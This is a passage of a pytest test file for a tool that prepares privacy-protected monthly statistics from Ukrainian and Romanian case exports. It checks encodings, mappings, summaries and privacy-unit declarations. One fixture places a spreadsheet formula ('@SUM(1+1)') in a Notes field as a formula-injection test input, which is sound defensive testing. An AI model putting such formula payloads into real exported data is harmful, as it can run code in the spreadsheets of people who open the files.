        contacts=contacts(ext_ContactorID="+373 (69) 123-456", Notes="@SUM(1+1)").encode(),
    ),
    Export("a header only, with --allow-empty", table(HEADER, []).encode(), (), args=("--allow-empty",)),
    Export(
        "a Ukrainian export in Windows-1251 through its mapping",
        UKRAINIAN_CASES().encode("cp1251"),
        (),
        mapping=UKRAINIAN_MAPPING,
    ),
    Export(
        "a Romanian export with cedilla headers, its mapping with comma-below letters",
        ROMANIAN_CASES.encode("cp1250"),
        (),
        mapping=ROMANIAN_MAPPING,
    ),
    Export(
        "no ext_PersonID, with --rows-are-persons",
        table(HEADER[1:], [row[1:] for row in ROWS]).encode(),
        (),
        args=("--rows-are-persons",),
    ),
    Export(
        "a dimension not recorded at all, with --allow-unknown",
        table(HEADER, [(*row[:4], "", *row[5:]) for row in ROWS]).encode(),
        (),
        args=("--allow-unknown",),
    ),
    Export(
        "a late entry of the month asked, with --allow-other-months",
        table(HEADER, [ROWS[0], *((f"Q{i}", f"D{i}", "2025-04-02", *ROWS[1][3:]) for i in range(9))]).encode(),
        (),
        args=("--allow-other-months",),
    ),
    Export(
        "JSON Lines with long integers",
        b"\r\n".join(as_json(r) for r in records(ext_PersonID=10**40)) + b"\r\n",
        (),
        name="cases.ndjson",
    ),
)


@pytest.mark.parametrize("export", ACCEPTED, ids=lambda e: e.id)
def test_the_control_exports_are_accepted_and_released(desk: Desk, export: Export) -> None:
    before = snapshot(desk.home)
    run = desk.prepare(export)
    assert run.status == 0, f"{export.id}:\n{run.err}"
    assert "Traceback" not in run.out + run.err
    assert snapshot(desk.home) != before
    assert [(r["period"], r["revision"], r["status"]) for r in desk.releases()] == [(PERIOD, 1, "prepared")]


# ---------------------------------------------------------------- what the officer is shown, and what is declared


def test_cedilla_headers_and_values_read_as_their_comma_below_mapping(desk: Desk) -> None:
    run = desk.prepare(
        Export("romanian", ROMANIAN_CASES.encode("cp1250"), (), mapping=ROMANIAN_MAPPING, args=("--json",))
    )
    assert run.status == 0, run.err
    assert "    citizenship (persons): 0% unknown, 0% not recorded\n" in run.err
    assert "    country_of_exploitation (persons): 0% unknown, 0% not recorded\n" in run.err
    assert "cases.csv (csv, cp1250): 3 rows read; 3 persons, 3 of them in 2025-03 (3 rows)." in run.err
    assert json.loads(run.out)["unit"] == "person-month"


def test_the_local_summary_names_rows_persons_unknowns_and_mapping_entries(desk: Desk) -> None:
    second_row = ("1", "C1", "2025-03-04", "жінка", "Україна", "сексуальна", "Польща", "друга подія")
    february = ("9", "C9", "2025-02-20", "жінка", "Україна", "трудова", "Польща", "")
    export = table(UKRAINIAN_HEADER, [*UKRAINIAN_ROWS, second_row, february]).encode("cp1251")
    run = desk.prepare(Export("summary", export, (), mapping=UKRAINIAN_MAPPING))
    assert run.status == 0, run.err
    assert run.err.startswith("Summary of the export for 2025-03 (for you only: never stored, never sent):\n")
    assert "  cases.csv (csv, cp1251): 5 rows read; 4 persons, 3 of them in 2025-03 (4 rows).\n" in run.err
    assert "    other months: 2025-02 1\n" in run.err
    assert "    not counted: 1 rows of persons registered in other months than 2025-03\n" in run.err
    assert "    gender (persons): 0% unknown, 0% not recorded\n" in run.err
    assert "    recruiter_relation (persons): 100% unknown, 100% not recorded (no column: ext_RecruiterRelation, " in (
        run.err
    )
    assert "  Mapping mapping.toml: columns used: Номер особи, Номер справи, Дата реєстрації, Стать" in run.err
    assert "    [values.prs_Citizenship]: 2 of 2 values found in the export\n" in run.err
    assert "    [values.vic_LocationOfExploitation]: 2 of 2 values found in the export\n" in run.err
    assert "  Unit of privacy: person-month.\n" in run.err
    assert "Summary" not in run.out  # the summary is for the terminal: never in a document a script might keep
    stored = b"".join(path.read_bytes() for path in desk.home.rglob("*") if path.is_file())
    assert b"rows read" not in stored
    assert b"3 of them in 2025-03" not in stored
    unmapped = desk.prepare(
        Export("unused", export, (), mapping=UKRAINIAN_MAPPING + '"Франція" = "FR"\n', args=("--check",))
    )
    assert "    [values.vic_LocationOfExploitation]: 2 of 3 values found in the export; never found: 'Франція'\n" in (
        unmapped.err
    )


def test_rows_counted_as_persons_declare_the_record_month_unit(desk: Desk) -> None:
    export = Export(
        "rows", table(HEADER[1:], [row[1:] for row in ROWS]).encode(), (), args=("--rows-are-persons", "--json")
    )
    run = desk.prepare(export)
    assert run.status == 0, run.err
    assert json.loads(run.out)["unit"] == "record-month"
    assert "  Unit of privacy: record-month, not person-month:\n" in run.err
    assert "    cases.csv: no ext_PersonID column: every row counts as a person (--rows-are-persons).\n" in run.err
    text = desk.run("--home", str(desk.home), "prepare", "--period", PERIOD, str(desk.folder / "cases.csv"))
    assert "Unit of privacy: record-month. The noise protects each record of your export in the month" in text.out


def test_contacts_without_a_contactor_id_declare_the_record_month_unit(desk: Desk) -> None:
    anonymous = contacts(ext_ContactorID="").encode()
    run = desk.prepare(Export("anonymous", VALID_CSV, (), contacts=anonymous, args=("--json",)))
    assert run.status == 0, run.err
    assert json.loads(run.out)["unit"] == "record-month"
    assert (
        "    contacts.csv: 1 contacts of 2025-03 have no ext_ContactorID: each counts as a contactor of its own, so a "
        "caller who called several times without one is protected less than a person."
    ) in run.err


def test_prepare_check_reads_checks_and_summarises_without_touching_the_home(desk: Desk) -> None:
    before = snapshot(desk.home)
    run = desk.prepare(Export("check", VALID_CSV, (), contacts=contacts().encode(), args=("--check",)))
    assert run.status == 0, run.err
    assert run.out.startswith("Check passed: cases.csv and contacts.csv can be released for 2025-03 (8 tables, unit")
    assert "Nothing was drawn, spent or stored." in run.out
    assert "Summary of the export for 2025-03" in run.err
    assert snapshot(desk.home) == before
    document = desk.prepare(Export("check", VALID_CSV, (), args=("--check", "--json")))
    assert json.loads(document.out) == {
        "period": "2025-03",
        "check": "passed",
        "cases": str(desk.folder / "cases.csv"),
        "contacts": None,
        "tables": sorted(n for n in json.loads(document.out)["tables"]),
        "unit": "person-month",
        "release": None,
    }
    refused_run = desk.prepare(Export("check", cases(prs_Gender="Femаle").encode(), (), args=("--check",)))
    assert refused_run.status == 1
    assert "did you mean 'Female'?" in refused_run.err
    assert snapshot(desk.home) == before
    assert desk.releases() == []
